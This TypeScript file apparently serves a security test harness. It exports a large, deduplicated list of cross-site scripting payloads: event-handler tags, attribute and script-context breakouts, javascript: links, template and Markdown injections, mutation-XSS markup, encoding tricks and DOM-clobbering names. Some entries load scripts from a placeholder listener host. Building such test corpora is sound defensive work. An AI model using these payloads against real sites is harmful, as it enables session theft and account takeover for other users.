/**
 * What somebody may type to make others' browsers run it. `§` stands for the mark of the value, by which it is found again,
 * and `¤` for the host of a listener. `k` is there in every page of the measurement: calling it is what must not happen.
 */

/** Elements that run by themselves or when touched. */
const elements = [
  '<img src=x onerror=k(§)>',
  '<img/src/onerror=k(§)>',
  '<IMG SRC=x ONERROR=k(§)>',
  '<image src=x onerror=k(§)>',
  '<svg onload=k(§)>',
  '<svg/onload=k(§)>',
  '<svg><script>k(§)</script>',
  '<svg><image href=x onerror=k(§)>',
  '<svg><animate onbegin=k(§) attributeName=x dur=1s>',
  '<svg><set onbegin=k(§) attributeName=x to=1>',
  '<svg><a href="javascript:k(§)"><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=k(§)>#x">',
  '<svg><foreignObject><img src=x onerror=k(§)>',
  '<math><mtext><img src=x onerror=k(§)>',
  '<math><maction actiontype=toggle href="javascript:k(§)">x',
  '<math href="javascript:k(§)">x</math>',
  '<script>k(§)</script>',
  '<script src=//¤/§></script>',
  '<script src="data:,k(§)"></script>',
  '<ScRiPt>k(§)</sCrIpT>',
  '<body onload=k(§)>',
  '<body onpageshow=k(§)>',
  '<video src=x onerror=k(§)></video>',
  '<video><source onerror=k(§)></video>',
  '<audio src=x onerror=k(§)></audio>',
  '<input autofocus onfocus=k(§)>',
  '<input type=image src=x onerror=k(§)>',
  '<select autofocus onfocus=k(§)></select>',
  '<textarea autofocus onfocus=k(§)></textarea>',
  '<button autofocus onfocus=k(§)>x</button>',
  '<details open ontoggle=k(§)>x</details>',
  '<marquee onstart=k(§)>x</marquee>',
  '<iframe onload=k(§)></iframe>',
  '<iframe srcdoc="<script>parent.k(§)</script>"></iframe>',
  '<iframe src="javascript:parent.k(§)"></iframe>',
  '<object data="javascript:k(§)"></object>',
  '<object data=//¤/§></object>',
  '<embed src="javascript:k(§)">',
  '<link rel=stylesheet href=//¤/§>',
  '<link rel=stylesheet href=data:, onload=k(§)>',
  '<style onload=k(§)></style>',
  "<style>@import'//¤/§'</style>",
  '<p style="background:url(//¤/§)">x',
  '<img src=//¤/§>',
  '<iframe src=//¤/§></iframe>',
  '<a href="javascript:k(§)">x</a>',
  '<a href="//¤/§" ping="//¤/§">x</a>',
  '<a onmouseover=k(§)>x</a>',
  '<p onclick=k(§) style=position:fixed;inset:0>x',
  '<form action="javascript:k(§)"><button>x</button></form>',
  '<button formaction="javascript:k(§)">x</button>',
  '<base href=//¤/§/>',
  '<meta http-equiv=refresh content="0;url=//¤/§">',
  '<template shadowrootmode=open><img src=x onerror=k(§)>',
  '<p id=§ tabindex=1 onfocus=k(§)>x',
  '<img src=x onerror=alert(§)>',
  '<img src=x onerror=confirm(§)>',
  '<img src=x onerror=prompt(§)>',
]

/** What closes the place that a text may stand in, so that the element after it counts. */
const closings = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!---->', ']]>']

/** Ends of a quoted attribute, and attributes that run. */
const attributes = [
  '" onmouseover="k(§)',
  "' onmouseover='k(§)",
  '" autofocus onfocus="k(§)" x="',
  "' autofocus onfocus='k(§)' x='",
  '` onerror=k(§) x=`',
  '" style="background:url(//¤/§)" x="',
  'x onerror=k(§)',
  '" onpointerenter=k(§) x="',
]

/** Texts that run where a text is put into a script. */
const scripts = [
  "';k(§);//",
  '";k(§);//',
  "\\';k(§);//",
  '*/k(§)/*',
  "'-k(§)-'",
  '"-k(§)-"',
  'k(§)',
  '`;k(§);`',
  '</script><script>k(§)',
  '\\u0027;k(§);//',
  "');k(§);//",
  'constructor.constructor("k(§)")()',
  '[].map.constructor`k(§)```',
  'x=>{k(§)}//',
]

/** Addresses that run where a text becomes a link. */
const links = [
  'javascript:k(§)',
  'JaVaScRiPt:k(§)',
  'java\tscript:k(§)',
  'java\nscript:k(§)',
  'javascript&colon;k(§)',
  '&#106;avascript:k(§)',
  'javascript://%0ak(§)',
  'javascript:/*--></title></style>*/k(§)',
  'data:text/html,<script>k(§)</script>',
  'data:text/html;base64,PHNjcmlwdD5rKCk8L3NjcmlwdD4#§',
  'vbscript:k(§)',
  'view-source:javascript:k(§)',
  'feed:javascript:k(§)',
  'blob:javascript:k(§)',
  '//¤/§',
  'http://¤/§',
  'https:¤/§',
  '\\\\¤\\§',
  '/\\¤/§',
  'javascript:alert(§)',
]

/** What a template, a translation or a Markdown reader would carry out. */
const templates = [
  "{{constructor.constructor('k(§)')()}}",
  '{{k(§)}}',
  '{{ actor }} §',
  '{{- k(§)}}',
  '$t(app.name) §',
  '$t(§)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that somebody types
  '${k(§)}',
  '#{k(§)}',
  '<%= k(§) %>',
  '%{k(§)}',
  '[[k(§)]]',
  '{%k(§)%}',
  '@{k(§)}',
  '*{k(§)}',
  '<1>§</1>',
  '[x](javascript:k(§))',
  '[x](//¤/§)',
  '![x](x"onerror="k(§))',
  '![x](//¤/§)',
  '<javascript:k(§)>',
  '[x]: javascript:k(§)',
  '`<img src=x onerror=k(§)>`',
  '| <img src=x onerror=k(§)> |',
  '<https://¤/§>',
]

/** Markup that changes its meaning when it is read a second time. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=k(§)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=k(§)>',
  '<svg></p><style><a title="</style><img src=x onerror=k(§)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=k(§)>',
  '<table><td><p><table><img src=x onerror=k(§)>',
  '<select><style></select><img src=x onerror=k(§)></style>',
  '<xmp><p title="</xmp><img src=x onerror=k(§)>">',
  '<noembed><img title="</noembed><img src=x onerror=k(§)>"></noembed>',
  '<p id="`<img src=x onerror=k(§)>`">',
  '<!--<img title="--><img src=x onerror=k(§)>">-->',
  '<![CDATA[<img src=x onerror=k(§)>]]>',
  '<a title=">" onclick=k(§)>x',
  '<plaintext>§',
  '<frameset onload=k(§)>',
  '<svg><title><style><img title="</style><img src onerror=k(§)>">',
  '<img src=x:x onerror\n=k(§)>',
]

/** Letters that become others on their way, and those that turn the line around. */
const letters = [
  '＜img src=x onerror=k(§)＞',
  '\\u003cimg src=x onerror=k(§)\\u003e',
  '\\x3cimg src=x onerror=k(§)\\x3e',
  '&lt;img src=x onerror=k(§)&gt;',
  '&#60;img src=x onerror=k(§)&#62;',
  '&amp;lt;img src=x onerror=k(§)&amp;gt;',
  '%3Cimg%20src=x%20onerror=k(§)%3E',
  '+ADw-img src=x onerror=k(§)+AD4-',
  '<ſcript>k(§)</ſcript>',
  '<ımg src=x onerror=k(§)>',
  'ກ<img src=x onerror=k(§)>ຂ',
  'ก<img src=x onerror=k(§)>ข',
  '\u202e<img src=x onerror=k(§)>',
  '\u2066<img src=x onerror=k(§)>\u2069',
  '<img\u00a0src=x\u00a0onerror=k(§)>',
  '<img\u2028src=x\u2028onerror=k(§)>',
  '<\u200bimg src=x onerror=k(§)>',
  'ຳ<svg/onload=k(§)>',
  '‹img src=x onerror=k(§)›',
  '<img src=x onerror=k(§)>\ufffd',
]

/** Names that stand in the way of what the page itself uses. */
const clobbering = [
  '<form id=location><input name=href value=§></form>',
  '<form name=trustedTypes id=§></form>',
  '<img name=cookie id=§>',
  '<img name=getElementById id=§>',
  '<img name=createElement id=§>',
  '<form id=document><img name=body id=§></form>',
  '<input name=attributes id=§>',
  '<a id=__proto__ href=//¤/§>x</a>',
  '<a id=defaultView name=§>x</a>',
  '<form id=app><input name=children id=§></form>',
  '<form id=root><input name=firstChild id=§></form>',
  '<iframe name=parent id=§></iframe>',
  '__proto__.§',
  'constructor.prototype.§',
]

/** Small enough for an abbreviation. */
const short = ['<b onclick=k(§)>', '<p onwheel=k(§)>', '<a href=//§>', '<p id=§>', "'-k(§)-'", '"-k(§)-"', '{{k(§)}}']

/** As many as there are; each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...attributes,
    ...scripts,
    ...links,
    ...templates,
    ...mutations,
    ...letters,
    ...clobbering,
    ...short,
    ...closings.flatMap((closing) => elements.map((element) => closing + element)),
  ]),
]
